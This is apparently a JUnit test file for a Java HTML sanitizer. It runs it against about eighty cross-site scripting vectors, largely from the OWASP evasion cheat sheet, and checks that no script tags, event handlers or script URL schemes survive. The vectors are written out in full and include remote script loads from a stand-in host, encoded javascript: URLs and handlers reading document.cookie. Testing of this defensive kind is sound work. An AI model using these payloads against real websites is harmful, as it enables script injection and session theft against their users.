package org.opendisclosure.core.html;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.argumentSet;

import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Vectors from the OWASP XSS Filter Evasion Cheat Sheet, plus a few mutation-XSS and scheme
 * obfuscation cases. The output is parsed again and every element and attribute inspected: a
 * string search alone would miss an attribute the parser decodes.
 */
class HtmlSanitizerXssTest {
  private static final HtmlSanitizer SANITIZER = HtmlSanitizer.standard();

  /** The tags the brief names as forbidden; the allowed-set check below is stricter still. */
  private static final Set<String> FORBIDDEN_TAGS =
      Set.of(
          "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
          "math", "meta", "link", "base", "form", "input", "textarea", "button", "select",
          "bgsound", "xss", "xml", "isindex", "video", "audio", "source", "details", "noscript");

  private static final Set<String> ALLOWED_TAGS =
      Set.of(
          "body", "h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "div",
          "span", "blockquote", "pre", "code", "strong", "b", "em", "i", "u", "sub", "sup", "ul",
          "ol", "li", "dl", "dt", "dd", "table", "caption", "colgroup", "col", "thead", "tbody",
          "tfoot", "tr", "th", "td", "img", "a");

  static Stream<Arguments> vectors() {
    return Stream.of(
        argumentSet(
            "script src", "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>"),
        argumentSet(
            "polyglot",
            "javascript:/*--></title></style></textarea></script></xmp>"
                + "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"),
        argumentSet("img javascript", "<IMG SRC=\"javascript:alert('XSS');\">"),
        argumentSet("img no quotes", "<IMG SRC=javascript:alert('XSS')>"),
        argumentSet("img mixed case", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
        argumentSet("img html entities", "<IMG SRC=javascript:alert(&quot;XSS&quot;)>"),
        argumentSet("img grave accents", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"),
        argumentSet("a onmouseover", "<a onmouseover=\"alert(document.cookie)\">xxs link</a>"),
        argumentSet("malformed img", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">"),
        argumentSet("fromCharCode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"),
        argumentSet("default src onmouseover", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
        argumentSet(
            "onerror", "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>"),
        argumentSet(
            "onerror encoded",
            "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099"
                + "&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101"
                + "&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039"
                + "&#0000041\">"),
        argumentSet(
            "decimal references",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;"
                + "&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"),
        argumentSet(
            "decimal references without semicolons",
            "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
                + "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114"
                + "&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>"),
        argumentSet(
            "hex references without semicolons",
            "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C"
                + "&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>"),
        argumentSet("embedded tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"),
        argumentSet("encoded tab", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">"),
        argumentSet("encoded newline", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">"),
        argumentSet("encoded carriage return", "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">"),
        argumentSet("null byte", "<IMG SRC=java\0script:alert(\"XSS\")>"),
        argumentSet("spaces and meta chars", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">"),
        argumentSet(
            "non-alpha after tag name", "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>"),
        argumentSet("body onload junk", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>"),
        argumentSet("extraneous open brackets", "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>"),
        argumentSet("no closing script tag", "<SCRIPT SRC=http://xss.example/xss.js?< B >"),
        argumentSet("protocol-relative script", "<SCRIPT SRC=//xss.example/.j>"),
        argumentSet("half-open img", "<IMG SRC=\"javascript:alert('XSS')\""),
        argumentSet("double open angle", "<iframe src=http://xss.example/scriptlet.html <"),
        argumentSet("end title tag", "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>"),
        argumentSet("input image", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">"),
        argumentSet("body background", "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
        argumentSet("img dynsrc", "<IMG DYNSRC=\"javascript:alert('XSS')\">"),
        argumentSet("img lowsrc", "<IMG LOWSRC=\"javascript:alert('XSS')\">"),
        argumentSet(
            "list-style-image",
            "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE>"
                + "<UL><LI>XSS</br>"),
        argumentSet("vbscript img", "<IMG SRC='vbscript:msgbox(\"XSS\")'>"),
        argumentSet("svg onload", "<svg/onload=alert('XSS')>"),
        argumentSet("svg script", "<svg><script>alert(1)</script></svg>"),
        argumentSet("body onload", "<BODY ONLOAD=alert('XSS')>"),
        argumentSet("bgsound", "<BGSOUND SRC=\"javascript:alert('XSS');\">"),
        argumentSet("link javascript", "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">"),
        argumentSet("remote stylesheet", "<LINK REL=\"stylesheet\" HREF=\"http://xss.example/xss.css\">"),
        argumentSet("style import", "<STYLE>@import'http://xss.example/xss.css';</STYLE>"),
        argumentSet(
            "meta link header",
            "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.example/xss.css>; REL=stylesheet\">"),
        argumentSet(
            "moz-binding", "<STYLE>BODY{-moz-binding:url(\"http://xss.example/xssmoz.xml#xss\")}</STYLE>"),
        argumentSet(
            "style import obfuscated", "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>"),
        argumentSet("img style expression", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">"),
        argumentSet(
            "style class background",
            "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE>"
                + "<A CLASS=XSS></A>"),
        argumentSet("xss behavior", "<XSS STYLE=\"behavior: url(xss.htc);\">"),
        argumentSet(
            "meta refresh", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">"),
        argumentSet(
            "meta refresh data",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,"
                + "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">"),
        argumentSet("iframe", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>"),
        argumentSet(
            "iframe event", "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>"),
        argumentSet(
            "frameset", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>"),
        argumentSet("table background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\">"),
        argumentSet("td background", "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">"),
        argumentSet(
            "div background url", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">"),
        argumentSet(
            "div background unicode escapes",
            "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061"
                + "\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074"
                + "\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">"),
        argumentSet("div expression", "<DIV STYLE=\"width: expression(alert('XSS'));\">"),
        argumentSet("base href", "<BASE HREF=\"javascript:alert('XSS');//\"><a href=\"x\">x</a>"),
        argumentSet(
            "object scriptlet",
            "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>"),
        argumentSet(
            "embed svg data",
            "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMu"
                + "b3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\""
                + " type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>"),
        argumentSet(
            "a data base64",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"),
        argumentSet("input autofocus", "<input onfocus=alert(1) autofocus>"),
        argumentSet(
            "form action", "<form action=\"javascript:alert(1)\"><input type=submit></form>"),
        argumentSet("math xlink", "<math><a xlink:href=\"javascript:alert(1)\">click</a></math>"),
        argumentSet(
            "malformed quotes", "<SCRIPT a=\">\" SRC=\"httx://xss.example/xss.js\"></SCRIPT>"),
        argumentSet(
            "malformed quotes empty name",
            "<SCRIPT =\">\" SRC=\"httx://xss.example/xss.js\"></SCRIPT>"),
        argumentSet(
            "malformed quotes grave", "<SCRIPT a=`>` SRC=\"httx://xss.example/xss.js\"></SCRIPT>"),
        argumentSet(
            "split script",
            "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://xss.example/xss.js\">"
                + "</SCRIPT>"),
        argumentSet(
            "a javascript location",
            "<A HREF=\"javascript:document.location='http://www.example.com/'\">XSS</A>"),
        argumentSet(
            "conditional comment", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"),
        argumentSet(
            "named entity colon and tab",
            "<a href=\"  JaVa&Tab;ScRiPt&colon;alert(1)\">x</a>"),
        argumentSet("a vbscript", "<a href=\"VBSCRIPT&#58;msgbox(1)\">x</a>"),
        argumentSet("data image", "<img src=\"data:image/png;base64,iVBORw0KGgo=\">"),
        argumentSet(
            "xml data island",
            "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>"
                + "<SPAN DATASRC=\"#xss\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>"),
        argumentSet("details ontoggle", "<details open ontoggle=alert(1)>x</details>"),
        argumentSet(
            "noscript mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        argumentSet("video source", "<video><source onerror=\"alert(1)\"></video>"),
        argumentSet("isindex", "<isindex type=image src=1 onerror=alert(1)>"),
        argumentSet("object data javascript", "<object data=\"javascript:alert(1)\"></object>"),
        argumentSet(
            "link with handlers and target",
            "<a href=\"https://www.example.gov.cn/\" target=\"_blank\" onclick=\"alert(1)\""
                + " style=\"color:red\">ok</a>"));
  }

  @ParameterizedTest
  @MethodSource("vectors")
  void outputCarriesNoActiveContent(String vector) {
    String html = SANITIZER.sanitize(vector).html();

    assertThat(html.toLowerCase(Locale.ROOT)).doesNotContain("<script");
    for (Element element : Jsoup.parseBodyFragment(html).body().getAllElements()) {
      assertThat(element.normalName()).isNotIn(FORBIDDEN_TAGS).isIn(ALLOWED_TAGS);
      for (Attribute attribute : element.attributes()) {
        assertThat(attribute.getKey()).doesNotStartWith("on").isNotEqualTo("style");
        // Attribute values come back entity-decoded from the parser; browsers also ignore
        // whitespace and control characters inside a scheme.
        String value =
            attribute.getValue().toLowerCase(Locale.ROOT).replaceAll("[\\s\\p{Cntrl}]", "");
        assertThat(value).doesNotContain("javascript:", "vbscript:", "data:");
      }
    }
  }

  @ParameterizedTest
  @MethodSource("vectors")
  void sanitisingAVectorTwiceChangesNothing(String vector) {
    SanitizedBody once = SANITIZER.sanitize(vector);

    assertThat(SANITIZER.sanitize(once.html())).isEqualTo(once);
  }
}
